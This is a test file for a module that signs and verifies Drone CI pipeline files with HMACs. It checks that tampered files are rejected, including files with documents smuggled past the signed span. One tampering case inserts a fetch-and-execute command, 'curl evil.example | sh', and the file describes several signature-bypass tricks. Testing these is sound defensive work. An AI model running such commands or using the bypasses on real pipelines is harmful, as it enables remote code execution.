import { describe, expect, it } from 'vitest';
import { hasValidSignature, signatureOf, signFile } from './signature.js';

const KEY = '589396227fff5a93ba934965e8735f88';

/**
 * A signed file of Drone's signer tests (drone-yaml, yaml/signer/testdata) and the HMAC Drone
 * computes for it with KEY: svc must agree byte for byte, or files signed with Drone stop
 * verifying after a migration. (The `hmac` in it is stale; only the other documents count.)
 */
const DRONE_FILE = `---
kind: pipeline
name: default

pipeline:
- name: build
  image: golang
  commands:
  - go build
  - go test

---
kind: secret
data:
  password: YjgwNDc4ZDY4NmQzNzQzYjNkYmUwYmE3YjMwOTM2OWUK
  username: N2NmYjA3ODQwNTY1ODFlY2E5MGJmOWI1NDk0NDFhMTEK

---
kind: signature
hmac: 43ea63152d72a554b2ab2bba0bac0d33d5d6d2de6f368c0c6ff544981f1f94ef

...
`;
const DRONE_HMAC = '389cf92a7472870783a9a5ea77b4abe58a4bb67ba58e1e7293e943aee314aedc';

const FILE = `kind: pipeline
name: default
steps:
- name: test
  image: alpine
  commands:
  - echo hi
`;

describe('pipeline file signatures', () => {
  it('computes Drone’s HMAC: over every document but the signature', () => {
    expect(signatureOf(DRONE_FILE, KEY)).toBe(DRONE_HMAC);
    expect(hasValidSignature(DRONE_FILE, KEY)).toBe(false);
    expect(hasValidSignature(DRONE_FILE.replace(/hmac: \w+/, `hmac: ${DRONE_HMAC}`), KEY)).toBe(true);
  });

  it('appends a signature document that verifies, replacing an old one', () => {
    const { hmac, file } = signFile(FILE, KEY);
    expect(file).toBe(`---\n${FILE}---\nkind: signature\nhmac: ${hmac}\n\n...\n`);
    expect(hasValidSignature(file, KEY)).toBe(true);
    const again = signFile(file, KEY);
    expect(again).toEqual({ hmac, file });
    expect(again.file.match(/kind: signature/g)).toHaveLength(1);
    expect(hasValidSignature(file.replaceAll('\n', '\r\n'), KEY)).toBe(true);
  });

  it('refuses a tampered file, another key, a missing or malformed signature, and a short key', () => {
    const { file } = signFile(FILE, KEY);
    expect(hasValidSignature(file.replace('echo hi', 'curl evil.example | sh'), KEY)).toBe(false);
    expect(hasValidSignature(file.replace('---\nkind: pipeline', '---\n# added\nkind: pipeline'), KEY)).toBe(
      false,
    );
    expect(hasValidSignature(file, 'x'.repeat(32))).toBe(false);
    expect(hasValidSignature(FILE, KEY)).toBe(false);
    expect(hasValidSignature(file.replace(/hmac: \w+/, 'hmac: not-hex'), KEY)).toBe(false);
    expect(hasValidSignature(file.replace(/hmac: (\w+)/, 'hmac: $1ab'), KEY)).toBe(false);
    expect(hasValidSignature(file, '')).toBe(false);
    expect(hasValidSignature(`${file.replace('...\n', '')}: [unclosed\n`, KEY)).toBe(false);
    expect(() => signFile(FILE, 'short')).toThrow(/at least 32 bytes/);
  });

  // The parser reads past what Drone's split hashes: after a `...` line, and on a `---` line.
  it('refuses a signed file with documents the HMAC does not cover', () => {
    const { file } = signFile(FILE, KEY);
    const evil = 'kind: pipeline\nname: evil\nsteps:\n- name: x\n  image: alpine\n  commands: [id]\n';
    expect(hasValidSignature(`${file}---\n${evil}`, KEY)).toBe(false);
    expect(hasValidSignature(`${file}${evil}`, KEY)).toBe(false);
    expect(hasValidSignature(`${file}...\n---\n${evil}`, KEY)).toBe(false);
    const inline = '--- {kind: pipeline, name: evil, steps: [{name: x, image: alpine, commands: [id]}]}\n';
    expect(hasValidSignature(`${inline}${file}`, KEY)).toBe(false);
    expect(
      hasValidSignature(file.replace('---\nkind: signature', `${inline}---\nkind: signature`), KEY),
    ).toBe(false);
  });

  it('refuses a document after the end that YAML reads as a signature and the pipeline parser as a pipeline', () => {
    const { file } = signFile(FILE, KEY);
    // Two `kind` keys: YAML keeps the last (a signature, ignored), the pipeline parser the first.
    const twoKinds =
      'kind: pipeline\nname: evil\nsteps:\n- name: x\n  image: alpine\n  commands: [id]\nkind: signature\n';
    expect(hasValidSignature(`${file}---\n${twoKinds}`, KEY)).toBe(false);
  });

  it('refuses the signed text cut into documents elsewhere, which Drone’s HMAC does not see', () => {
    const { file } = signFile(`${FILE}trigger:\n  branch: [main]\n`, KEY);
    expect(hasValidSignature(file, KEY)).toBe(true);
    // A `---` before `trigger:`: the same HMAC, a pipeline that runs on every branch.
    expect(hasValidSignature(file.replace('trigger:', '---\ntrigger:'), KEY)).toBe(false);
    // Two documents merged into one by removing the `---` between them: every key twice.
    const two = signFile(`${FILE}---\n${FILE.replace('default', 'second')}`, KEY).file;
    expect(hasValidSignature(two, KEY)).toBe(true);
    expect(
      hasValidSignature(
        two.replace('---\nkind: pipeline\nname: second', 'kind: pipeline\nname: second'),
        KEY,
      ),
    ).toBe(false);
  });

  it('still accepts what reads the same: comments after the markers and after the end, blank lines', () => {
    const { file } = signFile(FILE, KEY);
    expect(hasValidSignature(file.replace(/^---\n/, '--- # the pipeline\n'), KEY)).toBe(true);
    expect(hasValidSignature(`${file}# signed on Monday\n\n`, KEY)).toBe(true);
    expect(hasValidSignature(file.replaceAll('\n', '\r\n'), KEY)).toBe(true);
  });

  it('refuses to sign what is not YAML documents, naming the document', () => {
    expect(() => signFile(`${FILE}---\nkey: [unclosed\n`, KEY)).toThrow(/^document 2: /);
    expect(() => signFile('- a list\n', KEY)).toThrow('document 1 is not a map of fields');
  });
});
